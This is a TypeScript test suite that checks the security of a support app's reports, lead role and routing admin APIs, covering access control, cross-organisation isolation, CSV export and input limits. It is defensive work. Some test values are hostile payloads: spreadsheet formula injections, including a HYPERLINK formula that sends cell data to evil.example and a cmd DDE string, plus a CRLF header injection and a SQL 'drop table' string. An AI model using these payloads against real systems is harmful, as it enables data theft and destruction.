import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { historyWriter } from '../../server/dev/history';
import { useClients, useTestStack } from '../support/fixture';
import { subscribed } from '../support/realtime';
import { refusedFor } from '../support/postgrest';
import { api, customer } from '../support/stack';
import { until } from '../support/wait';

/**
 * Reports, the lead role and routing's admin API as an attacker reaches them (issues 33 and 35):
 * an agent, a lead, another organisation's admin, hostile names in a CSV, out-of-range input, and
 * the database around the server (PostgREST with the agent's own token).
 */
describe('Security: reports, leads and routing', () => {
  // a: admin, lead-to-be, agent, agent.
  const ctx = useTestStack({ orgs: { a: 4, b: 1 } });
  const clients = useClients(ctx);
  const period = 'from=2026-12-01T00:00:00Z&to=2026-12-08T00:00:00Z&timeZone=Europe/Berlin';
  const admin = () => ctx.a.agents[0]!.token;
  const lead = () => ctx.a.agents[1]!;
  const agent = () => ctx.a.agents[2]!;
  const adminB = () => ctx.b.agents[0]!.token;
  const teamOf = async (orgId: string) => (await ctx.stack.db.query<{ id: string }>('select id from teams where organisation_id = $1', [orgId])).rows[0]?.id;

  it('reports are for admins and leads; a lead administers nothing; a demoted lead loses reports at once', async () => {
    expect((await api(ctx.stack, admin(), `/api/admin/agents/${lead().id}/role`, 'POST', { role: 'lead' })).status).toBe(200);
    for (const path of [`/api/reports?${period}`, `/api/reports/csv?table=daily&${period}`, '/api/reports/channels']) {
      expect([path, (await api(ctx.stack, lead().token, path)).status]).toEqual([path, 200]);
      expect([path, (await api<{ error: string }>(ctx.stack, agent().token, path)).body]).toMatchObject([path, { error: 'reports_only' }]);
      expect([path, (await api(ctx.stack, null, path)).status]).toEqual([path, 401]);
    }
    const created = await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'Support' });
    expect(created.status).toBe(201);
    const team = created.body.id;
    for (const [path, method, body] of [
      ['/api/admin/overview', 'GET', undefined],
      ['/api/admin/crm', 'GET', undefined],
      ['/api/admin/teams', 'POST', { name: 'Leads' }],
      [`/api/admin/teams/${team}`, 'PATCH', { defaultCapacity: 1000 }],
      [`/api/admin/teams/${team}/members/${lead().id}`, 'PUT', {}],
      [`/api/admin/channels/${ctx.a.channelId}/team`, 'PUT', { teamId: team }],
      [`/api/admin/teams/${team}/hours`, 'PUT', { enabled: true, autoReply: 'closed' }],
      [`/api/admin/teams/${team}/sla`, 'PUT', { firstResponseMinutes: 1 }],
      [`/api/admin/teams/${team}`, 'DELETE', undefined],
      [`/api/admin/agents/${agent().id}/role`, 'POST', { role: 'admin' }],
    ] as const)
      for (const who of [lead().token, agent().token])
        expect([method, path, (await api(ctx.stack, who, path, method, body)).status]).toEqual([method, path, 403]);
    expect((await api(ctx.stack, admin(), `/api/admin/agents/${lead().id}/role`, 'POST', { role: 'agent' })).status).toBe(200);
    expect((await api(ctx.stack, lead().token, `/api/reports?${period}`)).status).toBe(403);
  });

  it('the last admin cannot make themselves a lead (an organisation keeps an admin)', async () => {
    const only = ctx.b.agents[0]!;
    const res = await api<{ error: string }>(ctx.stack, only.token, `/api/admin/agents/${only.id}/role`, 'POST', { role: 'lead' });
    expect([res.status, res.body.error]).toEqual([409, 'last_admin']);
    expect((await ctx.stack.db.query('select role from agents where id = $1', [only.id])).rows).toEqual([{ role: 'admin' }]);
  });

  it('a report never reaches into another organisation: its channel and agent are 404, its channels unlisted', async () => {
    expect((await api(ctx.stack, admin(), `/api/reports?${period}&channel=${ctx.b.channelId}`)).status).toBe(404);
    expect((await api(ctx.stack, admin(), `/api/reports?${period}&agent=${ctx.b.agents[0]!.id}`)).status).toBe(404);
    expect((await api(ctx.stack, admin(), `/api/reports/csv?table=agents&${period}&agent=${ctx.b.agents[0]!.id}`)).status).toBe(404);
    // An offset is not a zone: Intl reads +01:00 as UTC+1, PostgreSQL as POSIX UTC-1 (days would shift).
    expect((await api(ctx.stack, admin(), `/api/reports?${period.replace('Europe/Berlin', encodeURIComponent('+01:00'))}`)).status).toBe(400);
    const { body } = await api<{ channels: Array<{ id: string }> }>(ctx.stack, admin(), '/api/reports/channels');
    expect(body.channels.map((c) => c.id)).toEqual([ctx.a.channelId]);
    const report = await api<{ agents: { rows: Array<{ agentId: string }> } }>(ctx.stack, adminB(), `/api/reports?${period}`);
    expect(report.body.agents.rows.map((r) => r.agentId)).toEqual([ctx.b.agents[0]!.id]);
  });

  it('CSV: a name that starts a formula stays text; UTF-8 with a BOM; the file name is the server’s', async () => {
    // Display names are the agents' own (chosen when they accept their invitation): hostile ones.
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
    for (const [i, name] of hostile.entries()) await ctx.stack.db.query('update agents set display_name = $2 where id = $1', [ctx.a.agents[i]!.id, name]);
    const res = await fetch(`${ctx.stack.serverUrl}/api/reports/csv?table=agents&${period}`, { headers: { authorization: `Bearer ${admin()}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="switchboard-agents-2026-12-01-2026-12-08.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(new TextDecoder().decode(bytes), { bom: true, columns: true }) as Array<Record<string, string>>;
    const names = rows.map((r) => r.agent!);
    // OWASP: a cell that would start with = + - @ (or tab, CR) is prefixed with a quote, read as text.
    expect(names.sort()).toEqual(hostile.map((n) => `'${n}`).sort());
    for (const r of rows) expect(r.replies).toBe('0');
    // The table name is one of five: nothing of the query reaches the header.
    const bad = await api(ctx.stack, admin(), `/api/reports/csv?table=${encodeURIComponent('agents"\r\nx-evil: 1')}&${period}`);
    expect(bad.status).toBe(400);
  });

  it('report tables and the history clock are out of a client’s reach; the server’s own writes keep their time', async () => {
    const id = agent().id;
    for (const table of ['report_conversation_state', 'report_cycles', 'report_responses', 'report_volume', 'report_agent_replies', 'report_agent_spans'])
      expect([table, await refusedFor(ctx.stack, id, `select * from ${table}`)]).toEqual([table, { refused: true, code: '42501' }]);
    const { rows: published } = await ctx.stack.db.query<{ tablename: string }>(
      "select tablename from pg_publication_tables where pubname = 'supabase_realtime' and tablename like 'report\\_%'",
    );
    expect(published).toEqual([]);
    // PostgREST exposes public functions as RPC: clients may call only the three RLS relies on,
    // none of the reports', routing's or the history clock's (nor any later one, unless listed here).
    const { rows: callable } = await ctx.stack.db.query<{ proname: string }>(
      `select proname from pg_proc where pronamespace = 'public'::regnamespace
          and (has_function_privilege('anon', oid, 'execute') or has_function_privilege('authenticated', oid, 'execute'))
        order by proname`,
    );
    expect(callable.map((r) => r.proname)).toEqual(['changed_since', 'message_status_rank', 'my_organisation_id']);
    // The clock set in a client's own transaction changes nothing it could write: it writes nothing.
    const conversation = (await ctx.stack.db.query<{ id: string }>('select id from conversations where organisation_id = $1 limit 1', [ctx.a.id])).rows[0];
    for (const sql of [
      `select set_config('switchboard.history_clock', '2020-01-01T00:00:00Z', true); insert into messages (organisation_id, conversation_id, direction, body, status) values ('${ctx.a.id}', '${conversation?.id ?? ctx.a.id}', 'outbound', 'x', 'accepted')`,
      `select set_config('switchboard.history_clock', '2020-01-01T00:00:00Z', true); update conversations set status = 'resolved'`,
    ])
      expect(await refusedFor(ctx.stack, id, sql)).toMatchObject({ refused: true });
    // History written on its own connection leaves the server's connections on the database's time.
    const past = new Date('2020-01-06T10:00:00Z');
    const h = historyWriter(ctx.stack.db);
    const from = customer();
    await h.inbound(past, { from, to: ctx.a.number, body: 'history' }).finally(() => h.close());
    await ctx.stack.inbound({ from, to: ctx.a.number, body: 'live' });
    const live = async () =>
      (await ctx.stack.db.query<{ created_at: Date }>("select created_at from messages where body = 'live' and organisation_id = $1", [ctx.a.id])).rows[0];
    await until(async () => (await live()) !== undefined, { what: 'the live message stored' });
    expect((await live())!.created_at.getTime()).toBeGreaterThan(past.getTime() + 365 * 86_400_000);
  });

  it('with the anon key alone, no routing row is readable (refused, or no policy lets a row through)', async () => {
    expect((await ctx.stack.db.query<{ n: number }>('select count(*)::int as n from teams')).rows[0]!.n).toBeGreaterThan(0);
    const asAnon = async (sql: string) => {
      const c = await ctx.stack.db.connect();
      try {
        await c.query('begin');
        await c.query("select set_config('role', 'anon', true)");
        return await c.query<{ n: number }>(sql).then(
          (r) => r.rows[0]!.n,
          (err: { code?: string }) => err.code,
        );
      } finally {
        await c.query('rollback').catch(() => {});
        c.release();
      }
    };
    for (const table of ['teams', 'team_members', 'agent_routing', 'team_hours', 'team_holidays', 'sla_policies', 'sla_breaches', 'report_volume']) {
      const n = await asAnon(`select count(*)::int as n from ${table}`);
      expect([table, n === 0 || n === '42501']).toEqual([table, true]);
    }
  });

  it('routing admin routes refuse another organisation’s team, channel and agent; B’s team is untouched', async () => {
    const created = await api<{ id: string }>(ctx.stack, adminB(), '/api/admin/teams', 'POST', { name: 'B team', defaultCapacity: 2 });
    expect(created.status).toBe(201);
    const teamB = created.body.id;
    const teamA = (await teamOf(ctx.a.id)) ?? (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'A team' })).body.id;
    for (const [path, method, body, status] of [
      [`/api/admin/teams/${teamB}`, 'PATCH', { defaultCapacity: 1000 }, 404],
      [`/api/admin/teams/${teamB}/members/${ctx.a.agents[0]!.id}`, 'PUT', {}, 404],
      [`/api/admin/teams/${teamB}/members/${ctx.b.agents[0]!.id}`, 'PUT', {}, 404],
      [`/api/admin/teams/${teamB}/members/${ctx.b.agents[0]!.id}`, 'DELETE', undefined, 404],
      [`/api/admin/teams/${teamA}/members/${ctx.b.agents[0]!.id}`, 'PUT', {}, 422],
      [`/api/admin/channels/${ctx.a.channelId}/team`, 'PUT', { teamId: teamB }, 404],
      [`/api/admin/channels/${ctx.b.channelId}/team`, 'PUT', { teamId: null }, 404],
      [`/api/admin/teams/${teamB}/hours`, 'PUT', { enabled: true, autoReply: 'we are closed' }, 404],
      [`/api/admin/teams/${teamB}/sla`, 'PUT', { firstResponseMinutes: 1 }, 404],
      [`/api/admin/teams/${teamB}/sla`, 'DELETE', undefined, 404],
      [`/api/admin/teams/${teamB}`, 'DELETE', undefined, 404],
    ] as const)
      expect([method, path, (await api(ctx.stack, admin(), path, method, body)).status]).toEqual([method, path, status]);
    // Team names are per organisation: B's name taken tells A nothing (no "exists elsewhere" oracle).
    expect((await api(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'B team' })).status).toBe(201);
    const { rows } = await ctx.stack.db.query('select name, default_capacity, hours_enabled, auto_reply from teams where id = $1', [teamB]);
    expect(rows).toEqual([{ name: 'B team', default_capacity: 2, hours_enabled: false, auto_reply: null }]);
    expect((await ctx.stack.db.query('select team_id from channels where id = $1', [ctx.b.channelId])).rows).toEqual([{ team_id: null }]);
  });

  it('out-of-range routing input is a 400 with a reason, and changes nothing', async () => {
    const team = (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'Limits', defaultCapacity: 3 })).body.id;
    const interval = { weekday: 1, opensMinute: 540, closesMinute: 1020 };
    const hours = (over: object) => ({ enabled: true, timeZone: 'Europe/Berlin', intervals: [interval], ...over });
    for (const [path, method, body] of [
      ['/api/admin/teams', 'POST', { name: 'Huge', defaultCapacity: 1e9 }],
      ['/api/admin/teams', 'POST', { name: 'Negative', defaultCapacity: -1 }],
      ['/api/admin/teams', 'POST', { name: 'x'.repeat(101) }],
      [`/api/admin/teams/${team}`, 'PATCH', { defaultCapacity: 0 }],
      [`/api/admin/teams/${team}`, 'PATCH', { defaultCapacity: 2.5 }],
      [`/api/admin/teams/${team}`, 'PATCH', { handBackAfterMinutes: -5 }],
      [`/api/admin/teams/${team}/members/${agent().id}`, 'PUT', { capacity: Number.MAX_SAFE_INTEGER }],
      [`/api/admin/teams/${team}/members/${agent().id}`, 'PUT', { capacity: '5' }],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ timeZone: 'Mars/Olympus_Mons' })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ timeZone: "UTC'; drop table teams; --" })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ timeZone: '-05:00' })],
      [
        `/api/admin/teams/${team}/hours`,
        'PUT',
        hours({ intervals: Array.from({ length: 71 }, (_, i) => ({ weekday: (i % 7) + 1, opensMinute: i, closesMinute: i + 1 })) }),
      ],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ intervals: [{ weekday: 8, opensMinute: 0, closesMinute: 60 }] })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ intervals: [{ weekday: 1, opensMinute: 600, closesMinute: 60 }] })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ holidays: Array.from({ length: 367 }, (_, i) => ({ day: `2027-01-01`, name: String(i) })) })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ holidays: [{ day: '2027-02-30' }] })],
      [`/api/admin/teams/${team}/hours`, 'PUT', hours({ autoReply: 'x'.repeat(1025) })],
      [`/api/admin/teams/${team}/sla`, 'PUT', { firstResponseMinutes: -1 }],
      [`/api/admin/teams/${team}/sla`, 'PUT', { firstResponseMinutes: 1e12 }],
      ['/api/routing/availability', 'PUT', { availability: 'offline' }],
    ] as const) {
      const res = await api<{ error: string; message: string }>(ctx.stack, admin(), path, method, body);
      expect([method, path, res.status, res.body.error]).toEqual([method, path, 400, 'bad_request']);
      expect(res.body.message.length).toBeGreaterThan(0);
    }
    // 10,000 intervals never reach the schema: the body is over the server's limit.
    const huge = await api<{ message: string }>(
      ctx.stack,
      admin(),
      `/api/admin/teams/${team}/hours`,
      'PUT',
      hours({ intervals: Array.from({ length: 10_000 }, () => interval) }),
    );
    expect([huge.status, huge.body.message.length > 0]).toEqual([413, true]);
    const overlapping = await api(
      ctx.stack,
      admin(),
      `/api/admin/teams/${team}/hours`,
      'PUT',
      hours({ intervals: [interval, { ...interval, closesMinute: 600 }] }),
    );
    expect(overlapping.status).toBe(422);
    const { rows } = await ctx.stack.db.query(
      `select t.default_capacity, t.hours_enabled, t.time_zone, t.auto_reply, (select count(*)::int from team_hours h where h.team_id = t.id) as intervals
         from teams t where t.id = $1`,
      [team],
    );
    expect(rows).toEqual([{ default_capacity: 3, hours_enabled: false, time_zone: 'UTC', auto_reply: null, intervals: 0 }]);
    expect((await ctx.stack.db.query("select count(*)::int as n from teams where name in ('Huge', 'Negative')")).rows[0]).toEqual({ n: 0 });
  });

  it('an availability change reaches the organisation’s sockets, never another organisation’s', async () => {
    const stranger = await clients.connect(adminB());
    const colleague = await clients.connect(admin());
    const heard: Record<'stranger' | 'colleague', string[]> = { stranger: [], colleague: [] };
    stranger.on('routing:agent', (a) => heard.stranger.push(a.agentId));
    colleague.on('routing:agent', (a) => heard.colleague.push(a.agentId));
    expect((await api(ctx.stack, agent().token, '/api/routing/availability', 'PUT', { availability: 'busy' })).status).toBe(200);
    // B's own change, made after, is the marker: events of one server reach a socket in order.
    expect((await api(ctx.stack, adminB(), '/api/routing/availability', 'PUT', { availability: 'away' })).status).toBe(200);
    await until(() => heard.colleague.includes(agent().id) && heard.stranger.includes(ctx.b.agents[0]!.id), { what: 'both changes heard' });
    expect(heard.stranger).toEqual([ctx.b.agents[0]!.id]);
  });

  it('a team’s change reaches another organisation’s Realtime subscriber not at all (teams and members are published)', async () => {
    const heard: string[] = [];
    const sb = await clients.realtime.client(adminB());
    const ch = sb.channel('teams-stranger');
    for (const table of ['teams', 'team_members'])
      ch.on('postgres_changes', { event: '*', schema: 'public', table }, (p) =>
        heard.push(`${table}:${String((p.new as { team_id?: string; id?: string }).team_id ?? (p.new as { id?: string }).id)}`),
      );
    await subscribed(ch, true);
    const teamA = (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'Realtime A' })).body.id;
    expect((await api(ctx.stack, admin(), `/api/admin/teams/${teamA}/members/${agent().id}`, 'PUT', {})).status).toBe(200);
    expect((await api(ctx.stack, admin(), `/api/admin/teams/${teamA}`, 'PATCH', { assignment: 'round_robin' })).status).toBe(200);
    // B's own new team, made after, is the marker: changes arrive in commit order.
    const teamB = (await api<{ id: string }>(ctx.stack, adminB(), '/api/admin/teams', 'POST', { name: 'Realtime B' })).body.id;
    await until(() => heard.includes(`teams:${teamB}`), { what: 'B hears its own team' });
    expect(heard.filter((h) => h.includes(teamA))).toEqual([]);
  });
});
